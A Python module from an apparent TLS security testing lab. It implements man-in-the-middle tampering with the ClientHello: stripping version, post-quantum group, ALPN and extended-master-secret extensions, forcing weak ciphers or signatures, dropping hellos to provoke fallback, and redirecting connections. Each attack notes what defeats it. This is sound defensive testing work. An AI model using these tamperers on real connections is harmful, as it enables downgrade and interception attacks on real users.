"""Attacks on what is negotiated: the ClientHello edited, or not let through (group C).

An edited hello is a valid one, and the server answers it; but both ends hash what they sent and
received into their keys, so they end up with different ones (RFC 8446 section 4.4.1). What works
is to let no good hello through, against clients that then come back with a worse one.
"""

from __future__ import annotations

import abc
from collections.abc import Iterable
from dataclasses import dataclass
from typing import Final

from tlslab.attack import client_hello
from tlslab.attack.attack import Action, Attack, Cut, Send, Tampering, passed_on
from tlslab.attack.units import Unit, record_bytes
from tlslab.net import Direction
from tlslab.tls.hello import (
    ALPN,
    SIGNATURE_ALGORITHMS,
    SUPPORTED_GROUPS,
    SUPPORTED_VERSIONS,
    ClientHello,
)
from tlslab.tls.records import (
    NEED_MORE,
    ContentType,
    HandshakeParser,
    HandshakeType,
    MalformedTLS,
)
from tlslab.tls.registry import cipher_suite_name, group_name, version_name

RSA_PKCS1_SHA1: Final = 0x0201  # RFC 8446 section 4.2.3

_TRANSCRIPT: Final = "both ends' keys depend on the hello (RFC 8446 section 4.4.1)"
_COMES_BACK: Final = (
    "the client comes back with a weaker hello of its own, or TLS ends at the attacker"
)


class OnClientHello(Attack):
    """Does something about the first ClientHello of each connection, and nothing else."""

    @abc.abstractmethod
    def answer(self, hello: ClientHello, version: int) -> Iterable[Action] | None:
        """What to do instead of passing the hello on; None to pass it on.

        `version` is that of the record it came in.
        """

    def begin(self) -> Tampering:
        """The attack on a new connection."""
        return _OnClientHello(self)


class _OnClientHello(Tampering):
    """Holds records back until the hello, which may span several, is complete."""

    def __init__(self, attack: OnClientHello) -> None:
        self._attack = attack
        self._messages = HandshakeParser()
        self._held: list[Unit] = []
        self._over = False

    def on_unit(self, unit: Unit) -> Iterable[Action]:
        if unit.way is Direction.TO_CLIENT or self._over:
            return passed_on(unit)
        self._held.append(unit)
        record = unit.record
        try:
            if record is None or record.content_type is not ContentType.HANDSHAKE:
                return self._let_go()
            self._messages.feed(record.payload)
            message = self._messages.next()
            if message is NEED_MORE:
                return ()
            if message.type != HandshakeType.CLIENT_HELLO:
                return self._let_go()
            hello = ClientHello.parse(message.body)
        except MalformedTLS:
            return self._let_go()
        instead = self._attack.answer(hello, record.version)
        if instead is None:
            return self._let_go()
        self._over = True
        return instead

    def _let_go(self) -> list[Action]:
        self._over = True
        return [action for unit in self._held for action in passed_on(unit)]


class EditHello(OnClientHello):
    """Edits the ClientHello, so that client and server have seen different ones."""

    defeated_by = _TRANSCRIPT
    wins_when = _COMES_BACK

    @abc.abstractmethod
    def edited(self, hello: ClientHello) -> ClientHello:
        """The hello as the server shall see it."""

    def answer(self, hello: ClientHello, version: int) -> Iterable[Action] | None:
        """Send the edited hello in one record; nothing is done where there is nothing to edit."""
        edited = self.edited(hello)
        if edited == hello:
            return None
        message = client_hello.encode(edited)
        data = record_bytes(ContentType.HANDSHAKE, version, message)
        return (Send(Direction.TO_SERVER, data),)


@dataclass
class StripVersions(EditHello):
    """Takes supported_versions out, which leaves a hello of TLS 1.2."""

    id = "strip-supported-versions"
    title = "strip supported_versions, so that TLS 1.2 is all that is offered"
    catalogue = ("C02",)
    defeated_by = "the downgrade sentinel in ServerHello.random (RFC 8446 section 4.1.3)"

    def edited(self, hello: ClientHello) -> ClientHello:
        """Without the extension."""
        return client_hello.without(hello, SUPPORTED_VERSIONS)


@dataclass
class StripGroups(EditHello):
    """Takes key exchange groups out whose names contain `containing`, and their key shares."""

    containing: str = "MLKEM"
    shares: bool = True

    id = "strip-pq-group"
    title = "strip the post-quantum group, so that a recording can be opened some day"
    catalogue = ("C13",)

    def edited(self, hello: ClientHello) -> ClientHello:
        """Without the groups; with `shares` False their key shares are left behind."""
        unwanted = [group for group in hello.groups if self.containing in group_name(group)]
        kept = [group for group in hello.groups if group not in unwanted]
        edited = client_hello.with_numbers(hello, SUPPORTED_GROUPS, kept) if unwanted else hello
        return client_hello.without_key_shares(edited, unwanted) if self.shares else edited


@dataclass
class StripALPN(EditHello):
    """Takes ALPN out, so that the server must guess the protocol."""

    id = "strip-alpn"
    title = "strip ALPN"
    catalogue = ("C11",)

    def edited(self, hello: ClientHello) -> ClientHello:
        """Without the extension."""
        return client_hello.without(hello, ALPN)


@dataclass
class EditServerName(EditHello):
    """Asks for another name than the client does."""

    name: str = "other.test"

    id = "edit-sni"
    title = "edit the server name that the client asks for"
    catalogue = ("C11",)
    wins_when = "TLS ends at the attacker"

    def edited(self, hello: ClientHello) -> ClientHello:
        """With the other name."""
        return client_hello.with_server_name(hello, self.name)


@dataclass
class StripExtendedMasterSecret(EditHello):
    """Takes extended_master_secret out, the first step of the triple handshake attack."""

    id = "strip-extended-master-secret"
    title = "strip extended_master_secret (TLS 1.2)"
    catalogue = ("C10",)
    defeated_by = "the Finished messages (RFC 5246 section 7.4.9)"
    wins_when = "TLS ends at the attacker"

    def edited(self, hello: ClientHello) -> ClientHello:
        """Without the extension."""
        return client_hello.without(hello, client_hello.EXTENDED_MASTER_SECRET)


@dataclass
class KeepCiphers(EditHello):
    """Leaves only the cipher suites whose IANA names contain `containing`."""

    containing: str = "TLS_RSA_"

    id = "force-weak-cipher"
    title = "leave only the weakest cipher suites in the hello"
    catalogue = ("C06", "C08", "C14")

    def edited(self, hello: ClientHello) -> ClientHello:
        """With those suites; as it is if that would leave none."""
        kept = [one for one in hello.cipher_suites if self.containing in cipher_suite_name(one)]
        return client_hello.with_ciphers(hello, kept) if kept else hello


@dataclass
class KeepSignatures(EditHello):
    """Leaves one signature scheme, whether the client offers it or not.

    Numbers are those of RFC 8446 section 4.2.3, such as 0x0401 for rsa_pkcs1_sha256.
    """

    scheme: int = RSA_PKCS1_SHA1

    id = "force-weak-signature"
    title = "leave only a weak signature scheme in the hello (SLOTH)"
    catalogue = ("C14",)

    def edited(self, hello: ClientHello) -> ClientHello:
        """With that scheme; as it is if it names no schemes."""
        return client_hello.with_numbers(hello, SIGNATURE_ALGORITHMS, (self.scheme,))


@dataclass
class DropHellos(OnClientHello):
    """Breaks every connection whose ClientHello offers something of `offering`.

    These are parts of names of versions, groups, cipher suites and protocols, such as `"TLS 1.3"`,
    `"MLKEM"`, `"ECDHE"` and `"h2"`. It edits nothing, so no hash can tell.
    """

    offering: tuple[str, ...] = ("TLS 1.3",)

    id = "fallback-dance"
    title = "break connections until the client tries again with less"
    catalogue = ("C05", "C03", "C08", "C13")
    defeated_by = "clients that do not retry with less; TLS_FALLBACK_SCSV for versions (RFC 7507)"
    wins_when = "the client retries with less, and does not say so"

    def answer(self, hello: ClientHello, version: int) -> Iterable[Action] | None:
        """Cut the connection, or pass the hello on."""
        names = [
            *(version_name(one) for one in hello.supported_versions or (hello.legacy_version,)),
            *(group_name(one) for one in hello.groups),
            *(cipher_suite_name(one) for one in hello.cipher_suites),
            *hello.alpn,
        ]
        wanted = any(part in name for part in self.offering for name in names)
        return (Cut(),) if wanted else None


@dataclass
class Redirect(Attack):
    """Leads connections to another server, without a byte changed (ALPACA, virtual hosts)."""

    name: str = "other.test"
    port: int | None = None

    id = "redirect"
    title = "lead the connection to another server with a certificate for the same name"
    catalogue = ("B14", "C12", "C16")
    defeated_by = "servers that refuse names and protocols which are not theirs (RFC 7301 3.2)"
    wins_when = "a certificate is valid for several services, and none looks at SNI or ALPN"

    def begin(self) -> Tampering:
        """Nothing is tampered with on the connection itself."""
        return Tampering()

    def destination(self, name: str, port: int) -> tuple[str, int]:
        """The other server."""
        return self.name, self.port or port
